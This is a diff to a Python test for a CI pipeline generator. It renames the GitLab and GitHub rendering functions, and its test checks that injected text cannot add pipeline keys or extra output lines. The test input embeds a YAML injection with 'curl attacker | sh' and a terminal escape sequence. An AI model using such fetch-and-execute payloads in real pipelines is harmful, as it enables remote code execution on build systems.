@@ -22,7 +22,12 @@ from test_outdated import SPEC, Mirror, one_line_error, statement, write_envelop
 
 from builder.base import bootstrap_inputs
 from builder.cli import cli
-from builder.cli.plan import PlannedTemplate, PlanReason, github_matrix, gitlab_pipeline
+from builder.cli.plan import (
+    PlannedTemplate,
+    PlanReason,
+    render_github_matrix,
+    render_gitlab_pipeline,
+)
 from builder.spec import DebootstrapBase, load_spec
 from hardening.profile import load_profile
 
@@ -405,9 +410,9 @@ def test_text_from_documents_cannot_add_to_the_pipelines() -> None:
     YAML line of its own in the child pipeline, nor a second step output line."""
     hostile = "x\nevil:\n  script: [curl attacker | sh]\n\x1b]0;title\x07"
     planned = [PlannedTemplate(Path("t/a.yaml"), "a", None, None, (PlanReason("spec", hostile),))]
-    doc = yaml.safe_load(gitlab_pipeline(planned, ".gitlab-ci.yml"))
+    doc = yaml.safe_load(render_gitlab_pipeline(planned, ".gitlab-ci.yml"))
     assert set(doc) == {"include", "rebuild", "verify"}
-    assert "\x1b" not in gitlab_pipeline(planned, ".gitlab-ci.yml")
-    line = github_matrix(planned)
+    assert "\x1b" not in render_gitlab_pipeline(planned, ".gitlab-ci.yml")
+    line = render_github_matrix(planned)
     assert "\n" not in line
     assert json.loads(line)["include"][0]["reasons"] == [hostile]
